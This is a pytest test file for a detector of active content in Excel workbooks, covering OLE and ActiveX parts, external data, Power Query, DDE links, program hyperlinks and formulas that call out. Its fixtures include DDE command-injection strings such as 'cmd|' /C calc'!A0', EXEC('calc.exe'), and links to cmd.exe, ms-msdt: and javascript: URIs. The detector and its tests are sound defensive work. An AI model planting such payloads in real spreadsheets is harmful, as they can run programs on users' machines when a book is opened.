"""What may act when a book is opened is named, whatever it is and wherever it hides."""

import io
from collections.abc import Mapping

import pytest
from openpyxl import Workbook

from saiken_addin.ooxml import active
from saiken_addin.ooxml.active import Active, active_content, is_program
from saiken_addin.ooxml.gate import package_of
from saiken_addin.ooxml.package import RawPackage
from saiken_addin.ooxml.reader import read_book

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships/"
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
SHEET, SHEET_RELATIONS = "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels"
WORKBOOK, WORKBOOK_RELATIONS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
CELL = '<c r="B2"><v>1</v></c>'


MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHEET_TEXT = f'<worksheet {MAIN}><sheetData><row r="2">{CELL}</row></sheetData></worksheet>'
WORKBOOK_TEXT = (
    f'<workbook {MAIN} xmlns:r="{TYPE[:-1]}"><sheets><sheet name="月次報告" sheetId="1" r:id="rId1"/></sheets>'
    "<definedNames></definedNames></workbook>"
)


def plain_book() -> RawPackage:
    stream = io.BytesIO()
    Workbook().save(stream)
    parts = {SHEET: SHEET_TEXT.encode(), WORKBOOK: WORKBOOK_TEXT.encode()}
    return RawPackage(RawPackage(stream.getvalue()).rebuilt(parts))


BOOK = plain_book()


def found(changes: Mapping[str, bytes | str]) -> list[Active]:
    parts: dict[str, bytes | None] = {
        name: content.encode() if isinstance(content, str) else content for name, content in changes.items()
    }
    return active_content(read_book(package_of(BOOK.rebuilt(parts), "x.xlsx")))


def told(changes: Mapping[str, bytes | str]) -> list[tuple[str, str, str, str]]:
    return [(one.what, one.name, one.sheet, one.cell) for one in found(changes)]


def relation(kind: str, target: str, outside: bool = False) -> str:
    kind = kind if ":" in kind else f"{TYPE}{kind}"
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'


def of_sheet(kind: str, target: str, outside: bool = False) -> dict[str, str]:
    return {SHEET_RELATIONS: RELATIONS + relation(kind, target, outside)}


def beside(part: str, kind: str, target: str) -> dict[str, str]:
    """The relations of a part with one more."""
    return {part: BOOK.read(part).decode().replace("</Relationships>", relation(kind, target))}


def with_formula(xml: str) -> dict[str, str]:
    cell = f'<c r="B2">{xml}<v>1</v></c>'
    return {SHEET: SHEET_TEXT.replace(CELL, cell)}


def with_name(xml: str) -> dict[str, str]:
    return {WORKBOOK: WORKBOOK_TEXT.replace("</definedNames>", f"{xml}</definedNames>")}


def test_a_plain_book_has_nothing() -> None:
    assert found({}) == []


# --- parts -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "target", "what"),
    [
        ("oleObject", "../embeddings/oleObject1.bin", "埋め込まれたプログラムや文書"),
        ("package", "../embeddings/Book1.xlsx", "埋め込まれたファイル"),
        ("control", "../activeX/activeX1.xml", "ActiveXコントロール"),
        (f"{MICROSOFT}activeXControlBinary", "/xl/activeX/activeX1.bin", "ActiveXコントロール"),
        ("queryTable", "../queryTables/queryTable1.xml", "外部データの取込"),
    ],
)
def test_what_is_tied_to_a_sheet(kind: str, target: str, what: str) -> None:
    assert told(of_sheet(kind, target)) == [(what, target.rpartition("/")[2], "月次報告", "")]


@pytest.mark.parametrize(
    ("kind", "what"),
    [
        ("connections", "外部データへの接続"),
        ("dialogsheet", "ダイアログシート"),
        (f"{MICROSOFT}attachedToolbars", "ツールバー"),
        ("volatileDependencies", "RTD（ほかのプログラムからの値）"),
        ("http://schemas.microsoft.com/office/2007/relationships/powerPivotData", "データモデル"),
    ],
)
def test_what_is_tied_to_the_workbook(kind: str, what: str) -> None:
    assert told(beside(WORKBOOK_RELATIONS, kind, "x.xml")) == [(what, "x.xml", "", "")]


@pytest.mark.parametrize("kind", [f"{MICROSOFT}ui/extensibility", "http://x.example/webextensiontaskpanes"])
def test_what_changes_excel_itself(kind: str) -> None:
    [one] = found(beside("_rels/.rels", kind, "customUI/customUI.xml"))
    assert one.what in ("リボンの変更（customUI）", "アドイン")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_power_query_is_found_in_its_own_part(encoding: str) -> None:
    item = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    parts = {**beside(WORKBOOK_RELATIONS, "customXml", "../customXml/item1.xml")}
    both: dict[str, bytes | str] = {**parts, "customXml/item1.xml": item.encode(encoding)}
    assert told(both) == [("外部データの取込（Power Query）", "item1.xml", "", "")]
    assert found({**parts, "customXml/item1.xml": "<properties/>"}) == []


@pytest.mark.parametrize(("element", "what"), [("ddeLink", "DDE"), ("oleLink", "リンク")])
def test_a_link_to_another_program(element: str, what: str) -> None:
    part = "xl/externalLinks/externalLink1.xml"
    relations = beside(WORKBOOK_RELATIONS, "externalLink", "externalLinks/externalLink1.xml")
    link = f'<externalLink><{element} ddeService="cmd"/></externalLink>'
    parts = {name: text.encode() for name, text in {**relations, part: link}.items()}
    book = read_book(package_of(BOOK.rebuilt(parts), "x.xlsx", own=True))
    [one] = active_content(book)
    assert what in one.what


def test_pictures_and_parts_that_lie_elsewhere() -> None:
    picture = of_sheet("image", "https://track.example/x.png", outside=True)
    assert told(picture) == [("外部から読み込む画像", "https://track.example/x.png", "月次報告", "")]
    assert told(of_sheet("frame", "//host/x", outside=True)) == [("外部への参照", "//host/x", "月次報告", "")]
    drawing = {
        **of_sheet("vmlDrawing", "../drawings/vmlDrawing1.vml"),
        "xl/drawings/vmlDrawing1.vml": '<xml xmlns="http://x.example"><v src="https://track.example/x.png"/></xml>',
    }
    assert [one.what for one in found(drawing)] == ["外部から読み込む画像"]
    assert found(of_sheet("image", "../media/image1.png")) == []


# --- links -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "run.exe", r"C:\Windows\System32\cmd.exe", r"\\host\share\a.VBS", "file:///C:/x.lnk",
        "https://files.example/setup.msi?x=1", "javascript:alert(1)", "ms-msdt:/id", "search-ms:query=x",
        "..\\macro.xlam", "x.iqy",
    ],
)  # fmt: skip
def test_links_to_programs(target: str) -> None:
    assert is_program(target)
    escaped = target.replace("&", "&amp;")
    assert told(of_sheet("hyperlink", escaped, outside=True)) == [
        ("プログラムへのリンク", target, "月次報告", "")
    ]


@pytest.mark.parametrize(
    "target",
    [
        "https://www.city.example.com", "http://city.example.com/", "www.city.example.com", "要領.pdf",
        "mailto:a@city.example.com", r"\\server\共有\月次.xlsx", "C:\\資料\\x.docx", "#月次報告!A1", "tel:0312345678",
    ],
)  # fmt: skip
def test_links_to_documents_and_pages(target: str) -> None:
    assert not is_program(target)


# --- formulas and names ------------------------------------------------------------------------

_WORDS = [
    ('<f>WEBSERVICE("https://x.example/"&amp;A1)</f>', "外部を呼び出す関数", "WEBSERVICE"),
    ('<f>_xlfn.webservice (A1)</f>', "外部を呼び出す関数", "WEBSERVICE"),
    ('<f>1+&#87;EBSERVICE(A1)</f>', "外部を呼び出す関数", "WEBSERVICE"),
    ('<f t="array" ref="B2">_xlfn._xlws.PY(0,1)</f>', "外部を呼び出す関数", "PY"),
    ('<f>RTD("x.y",,"a")</f>', "外部を呼び出す関数", "RTD"),
    ('<f>REGISTER.ID("a","b")</f>', "外部を呼び出す関数", "REGISTER.ID"),
    ('<f>_xll.Foo(1)</f>', "外部を呼び出す関数", "_XLL.FOO"),
    ("<f>cmd|' /C calc'!A0</f>", "DDE（ほかのプログラムの呼出し）", "cmd|' /C calc'!A0"),
    ("<f>'c m d'|'x'!'y'</f>", "DDE（ほかのプログラムの呼出し）", "'c m d'|'x'!'y'"),
    ('<f>HYPERLINK("c:\\x"&amp;".exe","開く")</f>', "プログラムへのリンク", "c:\\x.exe"),
]  # fmt: skip


@pytest.mark.parametrize(("xml", "what", "name"), _WORDS, ids=[one[0] for one in _WORDS])
def test_a_formula_that_calls_out(xml: str, what: str, name: str) -> None:
    assert told(with_formula(xml)) == [(what, name, "月次報告", "B2")]


@pytest.mark.parametrize("xml", ["<f>WEB<!-- -->SERVICE(A1)</f>", "<f><![CDATA[WEBSERVICE(A1)]]></f>"])
def test_a_formula_that_is_cut_in_two(xml: str) -> None:
    assert [one.name for one in found(with_formula(xml))] == ["WEBSERVICE"]


@pytest.mark.parametrize(
    "place",
    [
        "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>",
        "<dataValidations><dataValidation><formula1>{}</formula1></dataValidation></dataValidations>",
        "<extLst xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'><xm:f>{}</xm:f></extLst>",
    ],
)
def test_formulas_stand_elsewhere_too(place: str) -> None:
    sheet = SHEET_TEXT.replace("</sheetData>", f"</sheetData>{place.format('WEBSERVICE(A1)')}")
    assert [one.name for one in found({SHEET: sheet})] == ["WEBSERVICE"]


@pytest.mark.parametrize(
    "formula",
    [
        '"WEBSERVICE(A1)"', 'SEARCH("|"&amp;A1&amp;"|","|なし|無|")', "'売上|支店'!A1+1", "MYCALL(1)", "表1[a|b]",
        'HYPERLINK("#月次報告!A1","x")', "TRUNC(A1)", "WEBSERVICE+1",
    ],
)  # fmt: skip
def test_formulas_that_call_nothing(formula: str) -> None:
    assert found(with_formula(f"<f>{formula}</f>")) == []


@pytest.mark.parametrize(
    ("xml", "what"),
    [
        ('<definedName name="Auto_Open">月次報告!$A$1</definedName>', "自動で実行される名前"),
        ('<definedName name="_xlnm.AUTO_CLOSE" hidden="1">月次報告!$A$1</definedName>', "自動で実行される名前"),
        ('<definedName name="auto_open_2">月次報告!$A$1</definedName>', "自動で実行される名前"),
        ('<definedName name="x" xlm="1" function="1">月次報告!$A$1</definedName>', "マクロの名前"),
        ('<definedName name="x">EXEC("calc.exe")</definedName>', "外部を呼び出す関数"),
        ("<definedName name='x'>cmd|'/C calc'!A0</definedName>", "DDE（ほかのプログラムの呼出し）"),
    ],
)
def test_names_that_act(xml: str, what: str) -> None:
    assert [one.what for one in found(with_name(xml))] == [what]


def test_names_of_libreoffice_are_names() -> None:
    name = '<definedName function="false" hidden="false" name="調定額" vbProcedure="false">月次報告!$A$1</definedName>'
    assert found(with_name(name)) == []


# --- what can't be looked into -----------------------------------------------------------------


def test_what_is_damaged_or_too_large_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    damaged = {SHEET_RELATIONS: RELATIONS}
    [one] = found(damaged)
    assert (one.what.endswith("調べていない部品"), one.name) == (True, "sheet1.xml.rels")
    monkeypatch.setattr(active, "MAX_LOOKED_INTO", 1_000)
    assert "sheet1.xml" in {one.name for one in found({})}
